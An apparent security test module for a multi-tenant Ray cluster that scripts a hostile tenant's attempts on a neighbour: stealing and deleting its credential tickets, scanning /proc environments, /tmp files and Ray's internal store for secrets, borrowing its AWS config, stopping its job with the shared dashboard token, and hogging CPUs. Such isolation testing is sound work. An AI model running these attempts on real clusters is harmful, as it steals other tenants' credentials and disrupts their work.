"""What a job of tenant `ac` tries on the cluster that it shares: Ray's API, its neighbours, their tickets."""

from __future__ import annotations

import json
import os
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import ray
from ray.util.placement_group import placement_group, remove_placement_group

from attack_kit.attempts import Attempt
from attack_kit.storage import BUCKET, OWN, SIGNED, VICTIM

ONE_USER = "all jobs of a node run as one user, and a job may ask Ray for any node"
ONE_TOKEN = "Ray has one token for all jobs"
SHOWN = "Ray shows the requests of jobs to everybody"
NOT_HELD = "Ray holds no job to its request"
PATIENCE = 60.0


class Dashboard:
    """Ray's jobs API, with the token that every job of the cluster has."""

    def __init__(self, address: str) -> None:
        self.address = f"http://{address}"
        path = os.environ.get("RAY_AUTH_TOKEN_PATH")
        self.token = Path(path).read_text().strip() if path else os.environ.get("RAY_AUTH_TOKEN", "")

    def call(self, method: str, path: str) -> Any:
        request = urllib.request.Request(self.address + path, method=method)
        request.add_header("Authorization", f"Bearer {self.token}")
        with urllib.request.urlopen(request, timeout=10) as answer:
            return json.loads(answer.read())

    def job(self, dag_id: str, *, ended: bool = False) -> dict[str, Any]:
        """The newest job of one of the victim's DAGs."""
        states = ("SUCCEEDED", "FAILED", "STOPPED") if ended else ("PENDING", "RUNNING")
        begun = time.monotonic()
        while time.monotonic() - begun < PATIENCE:
            found = [
                job
                for job in self.call("GET", "/api/jobs/")
                if (job["metadata"] or {}).get("raytenant.dag_id") == dag_id and job["status"] in states
            ]
            if found:
                return dict(max(found, key=lambda job: job["start_time"]))
            time.sleep(0.2)
        raise TimeoutError(f"no job of {dag_id}")


def attempts() -> Iterator[Attempt]:
    context = ray.init(log_to_driver=False)
    dashboard = Dashboard(context.address_info["webui_url"] or context.dashboard_url)
    running = dashboard.job("victim_holds")
    ended = dashboard.job("victim_ended", ended=True)
    yield from _tickets(running, ended)
    yield from _records(running)
    yield from _neighbours(running)
    yield from _environments(running)
    yield from _waiting(dashboard)
    yield Attempt(
        "stop the victim's job",
        lambda: dashboard.call("POST", f"/api/jobs/{running['submission_id']}/stop"),
        ONE_TOKEN,
    )


def _tickets(running: dict[str, Any], ended: dict[str, Any]) -> Iterator[Attempt]:
    s3 = boto3.client("s3", config=SIGNED)
    for when, job in (("while it runs", running), ("after its end", ended)):
        claim = job["runtime_env"]["env_vars"]["RAYTENANT_CLAIM"]
        name = job["submission_id"]
        yield Attempt(f"claim the victim's ticket {when}", lambda url=claim: _read(url))
        yield Attempt(f"remove it {when}, by the same address", lambda url=claim: _read(url, "DELETE"))
        for kind in ("tickets", "renewed"):
            key = f"{VICTIM}/.raytenant/{kind}/{name}.json"
            yield Attempt(
                f"read {kind} {when}, by the key", lambda key=key: s3.get_object(Bucket=BUCKET, Key=key)
            )
    yield Attempt(
        "list its tickets", lambda: s3.list_objects_v2(Bucket=BUCKET, Prefix=f"{VICTIM}/.raytenant/")
    )
    own = os.environ.get("RAYTENANT_CLAIM")
    yield Attempt("find the own address again, to claim twice", lambda: _known(own))


def _records(running: dict[str, Any]) -> Iterator[Attempt]:
    text = json.dumps(running)
    yield Attempt("read the victim's record", lambda: _known(text), SHOWN)
    yield Attempt("find its secret there", lambda: _known("hunter2" in text))
    yield Attempt("find a secret key there", lambda: _known("SecretAccessKey" in text))
    yield Attempt("find its secret in Ray's store", lambda: _known(_in_store(b"hunter2-of-acme")))
    package = running["runtime_env"]["py_modules"][0].encode()
    yield Attempt("read the victim's code in Ray's store", lambda: _known(_stored(package)), ONE_TOKEN)


SPACES = (None, b"job", b"fun", b"session", b"dashboard", b"_ray_runtime_env", b"cluster")


def _stored(key: bytes) -> bytes | None:
    """A value of Ray's internal store, in whichever namespace it is."""
    from ray.experimental.internal_kv import _internal_kv_get

    return next((found for space in SPACES if (found := _internal_kv_get(key, namespace=space))), None)


def _in_store(secret: bytes) -> bool:
    from ray.experimental.internal_kv import _internal_kv_get, _internal_kv_list

    for space in SPACES:
        for key in _internal_kv_list(b"", namespace=space):
            if secret in (_internal_kv_get(key, namespace=space) or b""):
                return True
    return False


def _neighbours(running: dict[str, Any]) -> Iterator[Attempt]:
    name = running["submission_id"]
    yield Attempt("read the victim's credentials in its node's files", lambda: _known(_files(name)), ONE_USER)
    yield Attempt("read its secret in its processes' environment", lambda: _known(_environ(name)), ONE_USER)


def _files(name: str) -> list[str]:
    return [path.read_text() for path in Path("/tmp").glob(f"raytenant-access-*-{name}/grant.json")]


def _environ(name: str) -> list[bytes]:
    found = []
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            text = path.read_bytes()
        except OSError:
            continue
        if f"RAYTENANT_SUBMISSION_ID={name}".encode() in text and b"hunter2-of-acme" in text:
            found.append(text)
    return found


def _environments(running: dict[str, Any]) -> Iterator[Attempt]:
    """Runtime environments that the job asks Ray for by itself."""
    config = f"/tmp/raytenant-access-{os.getuid()}-{running['submission_id']}/config"
    borrowed = {"env_vars": {"AWS_CONFIG_FILE": config, "RAYTENANT_CONFIG": config}}
    yield Attempt(
        "run a task with the victim's AWS_CONFIG_FILE",
        lambda: ray.get(
            ray.remote(num_cpus=0)(_list_with).options(runtime_env=borrowed).remote(config), timeout=40
        ),
        ONE_USER,
    )
    hook = {"worker_process_setup_hook": "os.getcwd"}
    yield Attempt(
        "run a task with another hook",
        lambda: ray.get(ray.remote(num_cpus=0)(os.getpid).options(runtime_env=hook).remote(), timeout=20),
    )


def _list_with(config: str) -> int:
    os.environ["AWS_CONFIG_FILE"] = config
    client = boto3.session.Session().client("s3", config=SIGNED)
    return len(client.list_objects_v2(Bucket=BUCKET, Prefix=f"{VICTIM}/")["Contents"])


def _waiting(dashboard: Dashboard) -> Iterator[Attempt]:
    """Keep a job of the victim's waiting in Ray, and claim what is its."""
    free = int(ray.available_resources().get("CPU", 0))
    hog = placement_group([{"CPU": 1}] * max(free, 1))
    ray.get(hog.ready(), timeout=PATIENCE)
    try:
        yield Attempt(
            "take all CPUs beyond the own footprint", lambda: _known(hog), "Ray holds no job to its request"
        )
        boto3.client("s3", config=SIGNED).put_object(Bucket=BUCKET, Key=f"{OWN}/hogging", Body=b"yes")
        job = dashboard.job("victim_waits")
        claim = job["runtime_env"]["env_vars"]["RAYTENANT_CLAIM"]
        yield Attempt("claim the ticket of a job that waits", lambda: _known(_claim(claim)), SHOWN)
    finally:
        remove_placement_group(hog)


def _claim(url: str) -> str:
    ticket = json.loads(_read(url))
    _read(ticket["remove_url"], "DELETE")
    return str(ticket["credentials"]["AccessKeyId"])


def _read(url: str, method: str = "GET") -> bytes:
    with urllib.request.urlopen(urllib.request.Request(url, method=method), timeout=10) as answer:
        body: bytes = answer.read()
    return body


def _known(found: Any) -> Any:
    if not found:
        raise LookupError("nothing found")
    return found
